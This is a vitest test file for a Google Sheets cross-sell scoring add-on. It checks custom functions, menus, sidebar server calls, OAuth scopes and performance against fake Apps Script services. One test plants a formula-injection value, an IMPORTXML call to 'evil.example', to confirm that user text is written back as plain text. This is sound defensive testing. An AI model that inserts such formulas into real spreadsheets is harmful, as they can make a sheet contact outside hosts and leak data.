/**
 * Loads the built dist/sheets/xsell.js in a Node VM with fake Apps Script services and checks the add-on as
 * Sheets would run it: top-level custom functions with parameters and JSDoc, answers equal to the core's,
 * onOpen in AuthMode.NONE, every menu action building its tab in a bounded number of range calls, the sidebar's
 * server functions, user text kept as text, and XSELL_SCORE on 50,000 rows far inside the 30-second limit.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import vm from "node:vm";
import { beforeEach, describe, expect, it } from "vitest";
import * as core from "../../core/functions";
import { CATALOG, sheetsName } from "../../core/catalog";
import { parseCsv } from "../../cli/csv";
import { toDay, toNumber } from "../../core/values";
import { accountRows } from "../../bench/data";
import { FakeAppsScript, type SheetsValue } from "../fakes/apps-script";

const DIST = join(__dirname, "..", "..", "dist", "sheets");
const SOURCE = readFileSync(join(DIST, "xsell.js"), "utf8");

/** CSV text → what Sheets' getValues returns: numbers, Date objects for dates, text. */
function sheetsShape(file: string, rows?: number): SheetsValue[][] {
  const grid = parseCsv(readFileSync(join(__dirname, "..", "..", "examples", file), "utf8"));
  return (rows ? grid.slice(0, rows + 1) : grid).map((r) =>
    r.map((v) => {
      if (/^\d{4}-\d{2}-\d{2}$/.test(v)) {
        const d = toDay(v);
        if (d.ok) {
          const dt = new Date(d.value * 86400000);
          return new Date(dt.getUTCFullYear(), dt.getUTCMonth(), dt.getUTCDate());
        }
      }
      const n = toNumber(v);
      return n.ok && /^[\d.,-]+$/.test(v) ? n.value : v;
    }),
  );
}

function load(app: FakeAppsScript): Record<string, (...a: unknown[]) => unknown> {
  const ctx = vm.createContext({ ...app.globals(), console, Date, Math, JSON });
  vm.runInContext(SOURCE, ctx);
  return ctx as unknown as Record<string, (...a: unknown[]) => unknown>;
}

let app: FakeAppsScript;
let gs: Record<string, (...a: unknown[]) => unknown>;
const accounts = sheetsShape("accounts.csv");
const ownership = sheetsShape("ownership.csv");
const prices = sheetsShape("prices.csv");
const retention = sheetsShape("retention.csv");

beforeEach(() => {
  app = new FakeAppsScript();
  app.spreadsheet.addSheet("Accounts", accounts);
  app.spreadsheet.addSheet("Ownership", ownership);
  app.spreadsheet.addSheet("Prices", prices);
  app.spreadsheet.addSheet("Retention data", retention);
  gs = load(app);
});

describe("custom functions in the Apps Script bundle", () => {
  it("declares every catalog function as a top-level function with its parameters and @customfunction JSDoc", () => {
    const declared = new Map<string, { params: string[]; doc: string }>();
    for (const m of SOURCE.matchAll(/\/\*\*([\s\S]*?)\*\/\s*function (XSELL_\w+)\(([^)]*)\)/g)) {
      declared.set(m[2], { doc: m[1], params: m[3].split(",").map((p) => p.trim()).filter(Boolean) });
    }
    expect([...declared.keys()].sort()).toEqual(CATALOG.map(sheetsName).sort());
    for (const f of CATALOG) {
      const d = declared.get(sheetsName(f))!;
      expect(d.params).toEqual(f.params.map((p) => p.name));
      expect(d.doc).toContain("@customfunction");
      expect(d.doc).toContain(f.description);
      for (const p of f.params) expect(d.doc).toContain(` ${p.name} ${p.description}`);
      expect(typeof gs[sheetsName(f)]).toBe("function");
      expect(gs[sheetsName(f)].length).toBe(f.params.length);
    }
  });

  const AS_OF = new Date(2026, 10, 1);
  const start = retention.slice(0, 200).map((r) => [r[2]]);
  const end = retention.slice(0, 200).map((r) => [r[3]]);
  const CALLS: Record<string, unknown[][]> = {
    SCORE: [[accounts.slice(0, 80), undefined, undefined, AS_OF], [accounts.slice(0, 80), undefined, "expansion-100", AS_OF]],
    EXPLAIN: [[accounts.slice(0, 40), undefined, undefined, AS_OF]],
    COLUMNS: [[accounts.slice(0, 40)]],
    BAND: [[75], [[[75], [""], [30]]]],
    MODEL: [[], ["expansion-100"]],
    ATTACH_RATE: [[ownership, "CRM", "Analytics"]],
    LIFT: [[ownership, "CRM", "Analytics", 5]],
    ADJACENCY: [[ownership], [ownership, "count"]],
    WHITESPACE: [[ownership.slice(0, 300), prices]],
    NEXT_PRODUCT: [[ownership.slice(0, 300), prices, 2]],
    TRIGGERS: [[accounts.slice(0, 50), undefined, ownership, AS_OF]],
    RULES: [[]],
    NRR: [[start, end]],
    GRR: [[start, end]],
    MOVEMENT: [[start, end]],
    RETENTION: [[retention]],
    EXPANSION_NEEDED: [[500000, 1.15], [[[200000], [300000]], 1.15, 10000]],
    SCENARIO: [[1000, 20000, 12000, 0.35, 24000]],
    SENSITIVITY: [[1000, 20000, [[10000, 12000]], [[0.3], [0.4]], "lift"]],
    PROJECTION: [[1000, 20000, 12000, 0.35, 4]],
  };
  for (const f of CATALOG) {
    it(`${sheetsName(f)} answers what the core answers with Sheets-shaped values`, () => {
      const impl = (core as Record<string, (...a: unknown[]) => unknown>)[sheetsName(f)];
      for (const args of CALLS[f.id]) {
        expect(JSON.parse(JSON.stringify(gs[sheetsName(f)](...args)))).toEqual(JSON.parse(JSON.stringify(impl(...args))));
      }
    });
  }

  it("throws errors with the same message as Excel shows", () => {
    expect(() => gs.XSELL_SCORE(accounts.slice(0, 5), undefined, "gold")).toThrow('XSELL_SCORE: model "gold" is not a preset; use "readiness-100" or "expansion-100", or pass a model table');
    expect(() => gs.XSELL_NRR([[0]], [[1]])).toThrow("XSELL_NRR: no account has starting ARR above 0, so the cohort is empty");
  });

  it("scores 50,000 rows far inside Apps Script's 30-second custom-function limit", () => {
    const rows = accountRows(50_000).map((r, i) => (i === 0 ? r : r.map((v, j) => (j === 4 || j === 9 ? new Date(Date.UTC(1900, 0, (v as number) - 1)) : v))));
    const t0 = performance.now();
    const out = gs.XSELL_SCORE(rows, undefined, undefined, AS_OF) as unknown[][];
    const ms = performance.now() - t0;
    expect(out.length).toBe(50_001);
    console.log(`XSELL_SCORE over 50,000 rows in the Apps Script VM: ${ms.toFixed(0)} ms`);
    expect(ms).toBeLessThan(30_000); // the platform's hard limit, not a speed target (bench/ measures speed)
  });
});

describe("menu, triggers and sidebar", () => {
  it("onOpen builds the add-on menu in AuthMode.NONE without touching authorized services", () => {
    app.authMode = "NONE";
    gs.onOpen({ authMode: "NONE" });
    expect(app.menu).toEqual({
      items: [
        ["Build scorecard", "xsellBuildScorecard"], ["Build whitespace tab", "xsellBuildWhitespace"], ["Build adjacency matrix", "xsellBuildAdjacency"],
        ["Build retention tab", "xsellBuildRetention"], ["Build scenario tab", "xsellBuildScenario"], ["Open sidebar", "xsellShowSidebar"],
      ],
      separators: 1,
      added: true,
    });
    app.menu = null;
    gs.onInstall({ authMode: "NONE" });
    expect(app.menu!.added).toBe(true);
    expect(app.rangeCalls).toBe(0);
  });

  it("every menu item names a top-level function, and the sidebar opens", () => {
    gs.onOpen({});
    for (const [, fn] of app.menu!.items) expect(typeof gs[fn], fn).toBe("function");
    gs.xsellShowSidebar();
    expect(app.sidebar).toMatchObject({ file: "sidebar", title: "XSELL" });
  });

  it.each([
    ["xsellBuildScorecard", "Scorecard", 30],
    ["xsellBuildWhitespace", "Whitespace", 30],
    ["xsellBuildAdjacency", "Adjacency", 40],
    ["xsellBuildRetention", "Retention", 40],
    ["xsellBuildScenario", "Scenario", 80],
  ])("%s builds the %s tab in a bounded number of range calls, leaving the source alone", (fn, name, bound) => {
    const before = app.spreadsheet.getSheetByName("Accounts")!.serialize();
    app.rangeCalls = 0;
    app.getValuesCalls = 0;
    gs[fn]();
    expect(app.alerts).toEqual([]);
    const sheet = app.spreadsheet.getSheetByName(name);
    expect(sheet, `${name} was not created`).not.toBeNull();
    expect(app.rangeCalls).toBeLessThanOrEqual(bound);
    console.log(`${fn}: ${app.rangeCalls} range calls, ${app.getValuesCalls} getValues, ${app.setValuesCalls} setValues`);
    expect(app.spreadsheet.getSheetByName("Accounts")!.serialize()).toBe(before);
    expect(app.spreadsheet.toasts[0]).toMatch(new RegExp(`^Built "${name}"`));
  });

  it("never reuses a sheet name and keeps user text as text", () => {
    app.spreadsheet.addSheet("Scorecard");
    const src = app.spreadsheet.getSheetByName("Accounts")!;
    const hostile = '=IMPORTXML("https://evil.example","//a")';
    src.values[1][0] = hostile;
    gs.xsellBuildScorecard();
    const built = app.spreadsheet.getSheetByName("Scorecard (2)")!;
    let found = false;
    for (let r = 1; r < built.values.length; r++) {
      expect(built.formula(r, 0)).toBeUndefined();
      if (built.cell(r, 0) === hostile) found = true;
    }
    expect(found).toBe(true);
  });

  it("the sidebar's server functions report the sheet and build tabs with the chosen mapping and tables", () => {
    const state = gs.xsellSidebarState() as { sheetName: string; rows: number; headers: string[]; mapping: Record<string, number>; ownership: string; prices: string; retention: string };
    expect(state.sheetName).toBe("Accounts");
    expect(state.rows).toBe(400);
    expect(state.mapping.NPS).toBe(6);
    expect([state.ownership, state.prices, state.retention]).toEqual(["Ownership", "Prices", "Retention data"]);
    const res = gs.xsellBuildTab({ tab: "whitespace", mapping: state.mapping, ownership: "Ownership", prices: "Prices", asOf: "2026-11-01" }) as { sheetName: string; rows: number };
    expect(res).toMatchObject({ sheetName: "Whitespace", rows: 402 });
    expect(app.spreadsheet.getActiveSheet().getName()).toBe("Accounts");
    expect(app.properties.get("xsell.choices")).toContain('"ownership":"Ownership"');
    expect(() => gs.xsellBuildTab({ tab: "whitespace", ownership: "Gone" })).toThrow('There is no sheet named "Gone" any more');
  });
});

describe("dist/sheets files", () => {
  it("asks for exactly the two narrow OAuth scopes, on the V8 runtime", () => {
    const manifest = JSON.parse(readFileSync(join(DIST, "appsscript.json"), "utf8"));
    expect(manifest.runtimeVersion).toBe("V8");
    expect(manifest.oauthScopes).toEqual(["https://www.googleapis.com/auth/spreadsheets.currentonly", "https://www.googleapis.com/auth/script.container.ui"]);
  });
  it("ships the sidebar as one HTML file with its CSS and JS inlined and nothing loaded from elsewhere", () => {
    const html = readFileSync(join(DIST, "sidebar.html"), "utf8");
    expect(html).not.toMatch(/<script[^>]+src=/);
    expect(html).not.toMatch(/<link[^>]+href=/);
    expect(html).toContain("xsellBuildTab");
    expect(html).toContain(".primary");
    expect(html).toContain("Content-Security-Policy");
  });
});
